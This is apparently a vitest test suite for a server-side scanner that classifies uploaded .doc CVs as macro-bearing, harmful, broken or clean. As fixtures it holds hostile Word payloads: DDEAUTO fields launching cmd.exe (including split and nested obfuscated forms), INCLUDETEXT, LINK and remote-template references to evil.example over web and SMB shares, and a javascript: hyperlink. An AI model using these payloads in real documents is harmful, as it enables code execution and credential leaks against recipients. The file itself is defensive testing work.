import { describe, expect, test } from 'vitest';
import { bytesOf, doc, docOf, docx, wordStream, wordTable, zip } from '#tests/support/server/cv-files.ts';
import { verdict } from '#tests/support/server/cv-verdict.ts';

describe('DOC', () => {
  test.each([
    [
      'macros',
      doc([{ name: 'Macros' }, { name: '_VBA_PROJECT', content: Buffer.alloc(4096) }]),
      'fileWithMacros',
    ],
    ['a password', doc([], wordStream(0x1300)), 'lockedFile'],
    [
      'a packed file',
      doc([{ name: '\u0001Ole10Native', content: Buffer.alloc(4096, '\0\x10\0\0\x02\0') }]),
      'harmfulFile',
    ],
    [
      'an object that stands elsewhere',
      doc([{ name: '\u0001Ole', content: Buffer.alloc(4096, '\x01\0\0\x02\x01\0\0\0') }]),
      'harmfulFile',
    ],
    ['an archive behind it', bytesOf(doc(), docx()), 'harmfulFile'],
    ['much behind it', bytesOf(doc(), 'x'.repeat(80_000)), 'harmfulFile'],
    ['another beginning', doc([], Buffer.alloc(4096)), 'brokenFile'],
  ])('with %s: %s', async (_, file, reason) => {
    expect(await verdict(file, 'cv.doc')).toBe(reason);
  });
  /** With an object of another program, whose class is in the directory behind its name. */
  const withClass = (id: string) => {
    const file = Buffer.from(doc([{ name: '_1234' }]));
    file.write(id, file.indexOf('_1234', 0, 'utf16le') + 80, 'hex');
    return new Uint8Array(file);
  };
  test.each([
    ['a packed file', '0c00030000000000c000000000000046', 'harmfulFile'],
    ['a page', '20693325f903cf118fd000aa00686f13', 'harmfulFile'],
    ['the equation editor of old', '02ce020000000000c000000000000046', 'harmfulFile'],
    ['a link', '0003000000000000c000000000000046', 'harmfulFile'],
    ['a table', '2008020000000000c000000000000046', 'application/msword'],
  ])('with an object whose class is that of %s: %s, %s', async (_, id, expected) => {
    expect(await verdict(withClass(id))).toBe(expected);
  });
  test.each([
    ['a packed file', 'Package', 'harmfulFile'],
    ['a table', 'Excel.Sheet.8', 'application/msword'],
  ])('with an object that says it is %s, whatever its class: %s, %s', async (_, program, expected) => {
    const said = Buffer.concat([Buffer.from([program.length + 1, 0, 0, 0]), Buffer.from(`${program}\0`)]);
    const content = bytesOf('\0'.repeat(40), said, '\0'.repeat(4_096));
    expect(await verdict(doc([{ name: '\u0001CompObj', content }]))).toBe(expected);
  });
  test('with a document in it that has macros is one with macros', async () => {
    const pack = (name: string) => ({
      name: 'Package',
      content: bytesOf(docx([{ name, content: 'x' }]), '\0'.repeat(4_096)),
    });
    expect(await verdict(doc([pack('word/vbaProject.bin')]))).toBe('fileWithMacros');
    expect(await verdict(doc([pack('word/footer1.xml')]))).toBe('application/msword');
  });
  test('with an object of its own is taken', async () => {
    const own = Buffer.alloc(4096, '\x01\0\0\x02\0\0\0\0');
    expect(await verdict(doc([{ name: '\u0001Ole', content: own }]))).toBe('application/msword');
  });
  test.each([
    ['on the web', 'https://evil.example/t', 'harmfulFile'],
    ['on a share', '\\\\evil.example\\t.dot', 'harmfulFile'],
    ['of its own', 'C:\\Users\\Somying\\Normal.dot', 'application/msword'],
    ['of Word', 'Normal', 'application/msword'],
  ])('with a template %s', async (_, template, expected) => {
    const texts = ['', template].map((text) => {
      const written = Buffer.alloc(2 + text.length * 2);
      written.writeUInt16LE(text.length);
      written.write(text, 2, 'utf16le');
      return written;
    });
    const table = Buffer.concat([Buffer.from([0xff, 0xff, 2, 0, 0, 0]), ...texts]);
    const main = Buffer.from(wordStream());
    main.writeUInt32LE(64, 0x19a);
    main.writeUInt32LE(table.length, 0x19e);
    const parts = wordTable();
    parts.set(table, 64);
    expect(await verdict(doc([], main, parts))).toBe(expected);
  });
  test('with a theme, which Word keeps in an archive within it, is taken', async () => {
    const theme = Buffer.alloc(8_192);
    theme.set(zip([{ name: 'theme/theme1.xml', content: '<a:theme/>' }]), 100);
    expect(await verdict(doc([{ name: 'Data', content: theme }]))).toBe('application/msword');
  });
  test.each<[string, string, ...string[]]>([
    ['starts a program', 'harmfulFile', '\x13 DDEAUTO c:\\\\cmd.exe \x14x\x15'],
    [
      'starts a program, its words in pieces',
      'harmfulFile',
      'a\x13 DD',
      'EAU',
      'TO',
      ' c:\\\\cmd.exe',
      '\x15',
    ],
    ['starts a program and never ends', 'harmfulFile', '\x13DDE cmd'],
    ['takes a document into the text', 'harmfulFile', '\x13INCLUDETEXT "https://evil.example/a"\x15'],
    ['is linked to a document', 'harmfulFile', '\x13LINK Word.Document.8 "https://evil.example/a" \\a\x15'],
    ['links to a script', 'harmfulFile', '\x13HYPERLINK "javas', 'cript:x"\x15'],
    ['has a name that is another field', 'harmfulFile', '\x13 \x13QUOTE 68 68 69\x15 c:\\\\cmd.exe\x15'],
    ['has a name that ends in another field', 'harmfulFile', '\x13 DD\x13QUOTE 69\x15 c:\\\\cmd.exe\x15'],
    ['is a picture on a share', 'harmfulFile', '\x13INCLUDEPICTURE \\\\\\\\evil.example\\\\a.png\x15'],
    ['links to the web', 'application/msword', '\x13HYPERLINK "https://example.com/" \\o "DDE"\x14a\x15'],
    ['reckons', 'application/msword', '\x13 = \x13 PAGE \x141\x15 + 1 \x142\x15'],
    ['shows a program, which is text', 'application/msword', '\x13 PAGE \x14 DDE cmd\x15 DDEAUTO cmd'],
  ])('with a field that %s: %s', async (_, expected, ...pieces) => {
    expect(await verdict(docOf(...pieces))).toBe(expected);
  });
  test('whose parts share what they are made of, which would be read for each, is broken', async () => {
    const file = Buffer.from(doc([{ name: 'a', content: Buffer.alloc(4096) }]));
    const first = file.indexOf(Buffer.from('1Table', 'utf16le'));
    file.copy(file, first + 128 + 116, first + 116, first + 120);
    expect(await verdict(new Uint8Array(file))).toBe('brokenFile');
  });
  test('with two parts of one name is broken', async () => {
    const file = doc([{ name: 'WORDDOCUMENT', content: wordStream() }]);
    expect(await verdict(file)).toBe('brokenFile');
  });
  test('whose storages hold each other is broken', async () => {
    const file = Buffer.from(doc([{ name: 'a' }]));
    file.writeUInt32LE(1, file.indexOf(Buffer.from('a\0\0\0', 'latin1'), 512) + 76);
    expect(await verdict(new Uint8Array(file))).toBe('brokenFile');
  });
  test('whose chains bite their tails ends', async () => {
    const file = Buffer.from(doc());
    for (let entry = 0; entry < 40; entry++) file.writeUInt32LE(1, 512 + entry * 4);
    expect(await verdict(new Uint8Array(file))).toBe('brokenFile');
  });
});
